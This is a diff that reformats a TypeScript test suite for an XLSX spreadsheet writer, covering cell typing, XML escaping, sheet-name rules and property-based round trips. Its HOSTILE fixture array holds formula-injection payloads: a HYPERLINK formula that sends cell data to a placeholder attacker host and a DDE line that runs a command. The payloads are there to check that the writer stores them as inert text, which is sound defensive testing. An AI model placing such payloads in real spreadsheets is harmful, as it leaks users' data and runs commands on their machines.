@@ -2,7 +2,13 @@ import fc from 'fast-check';
 import { parseXml, readXlsx, sheetRecords } from '../../../../test/support/xlsx-read';
 import { columnName, rowXml, xlsxBuffer, xmlEscape, XLSX_MAX_CELL_TEXT, XlsxCell } from './xlsx-writer';
 
-const HOSTILE = ['=HYPERLINK("http://atacante.example/?x="&A1,"ver")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-1+1', '\tTab'];
+const HOSTILE = [
+  '=HYPERLINK("http://atacante.example/?x="&A1,"ver")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '-1+1',
+  '\tTab',
+];
 
 describe('xlsx writer', () => {
   it('writes the minimal SpreadsheetML parts, each well-formed XML, one sheet per dataset in order', async () => {
@@ -27,7 +33,11 @@ describe('xlsx writer', () => {
 
   it('numbers are numeric cells, text stays text (also when it looks like a number or a formula), booleans are booleans, null is empty', async () => {
     const rows: XlsxCell[][] = [[3, '3', true, null, 0.4375, -2, ...HOSTILE]];
-    const wb = readXlsx(await xlsxBuffer([{ name: 'data', columns: ['n', 's', 'b', 'empty', 'x', 'neg', ...HOSTILE.map((_, i) => `h${i}`)], rows }]));
+    const wb = readXlsx(
+      await xlsxBuffer([
+        { name: 'data', columns: ['n', 's', 'b', 'empty', 'x', 'neg', ...HOSTILE.map((_, i) => `h${i}`)], rows },
+      ]),
+    );
     const [, row] = wb.sheets.get('data') ?? [];
     expect(row.slice(0, 6)).toEqual([
       { type: 'number', value: 3 },
@@ -45,11 +55,21 @@ describe('xlsx writer', () => {
     const nasty = 'a & b < c > d " e \' </t></is></c><c><f>1+1</f></c> \u0000\u0001\u000b\uffff \ud800 ✓ Ñandú 😀 \r\n';
     const wb = readXlsx(await xlsxBuffer([{ name: 'x&y', columns: ['<h>'], rows: [[nasty]] }]));
     expect([...wb.sheets.keys()]).toEqual(['x&y']);
-    expect(sheetRecords(wb, 'x&y')).toEqual([{ '<h>': 'a & b < c > d " e \' </t></is></c><c><f>1+1</f></c>   ✓ Ñandú 😀 \r\n' }]);
+    expect(sheetRecords(wb, 'x&y')).toEqual([
+      { '<h>': 'a & b < c > d " e \' </t></is></c><c><f>1+1</f></c>   ✓ Ñandú 😀 \r\n' },
+    ]);
   });
 
   it('non-finite numbers are empty cells; overlong text is cut at the spreadsheet limit', async () => {
-    const wb = readXlsx(await xlsxBuffer([{ name: 's', columns: ['a', 'b', 'c'], rows: [[Number.NaN, Number.POSITIVE_INFINITY, 'x'.repeat(XLSX_MAX_CELL_TEXT + 10)]] }]));
+    const wb = readXlsx(
+      await xlsxBuffer([
+        {
+          name: 's',
+          columns: ['a', 'b', 'c'],
+          rows: [[Number.NaN, Number.POSITIVE_INFINITY, 'x'.repeat(XLSX_MAX_CELL_TEXT + 10)]],
+        },
+      ]),
+    );
     const [, row] = wb.sheets.get('s') ?? [];
     expect(row[0]).toBeNull();
     expect(row[1]).toBeNull();
@@ -66,7 +86,12 @@ describe('xlsx writer', () => {
     expect(rows[4999]).toEqual({ i: 4999, t: 'fila 4999' });
     await expect(xlsxBuffer([{ name: 'a/b', columns: [], rows: [] }])).rejects.toThrow('invalid sheet name');
     await expect(xlsxBuffer([{ name: 'x'.repeat(32), columns: [], rows: [] }])).rejects.toThrow('invalid sheet name');
-    await expect(xlsxBuffer([{ name: 'A', columns: [], rows: [] }, { name: 'a', columns: [], rows: [] }])).rejects.toThrow('duplicate');
+    await expect(
+      xlsxBuffer([
+        { name: 'A', columns: [], rows: [] },
+        { name: 'a', columns: [], rows: [] },
+      ]),
+    ).rejects.toThrow('duplicate');
   });
 
   it('column names: A, Z, AA, AZ, BA, XFD', () => {
@@ -74,10 +99,20 @@ describe('xlsx writer', () => {
   });
 
   it('property: any row of strings, numbers, booleans and nulls is well-formed XML and reads back as written', () => {
-    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), fc.boolean(), fc.constant(null));
+    const cell = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.double({ noNaN: true, noDefaultInfinity: true }),
+      fc.integer(),
+      fc.boolean(),
+      fc.constant(null),
+    );
     fc.assert(
       fc.property(fc.array(cell, { maxLength: 30 }), (cells) => {
-        const xml = `<sheetData xmlns:x="y">${rowXml(2, cells, cells.map((_, i) => columnName(i)))}</sheetData>`;
+        const xml = `<sheetData xmlns:x="y">${rowXml(
+          2,
+          cells,
+          cells.map((_, i) => columnName(i)),
+        )}</sheetData>`;
         const row = parseXml(xml).children[0];
         let k = 0;
         cells.forEach((v) => {
@@ -99,5 +134,8 @@ describe('xlsx writer', () => {
 
 /** What a string reads back as: the characters XML cannot carry are gone, everything else is kept. */
 function xmlEscapeInverse(v: string): string {
-  return xmlEscape(v).replace(/&(amp|lt|gt|quot|#13);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#13': '\r' })[e] as string);
+  return xmlEscape(v).replace(
+    /&(amp|lt|gt|quot|#13);/g,
+    (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#13': '\r' })[e] as string,
+  );
 }
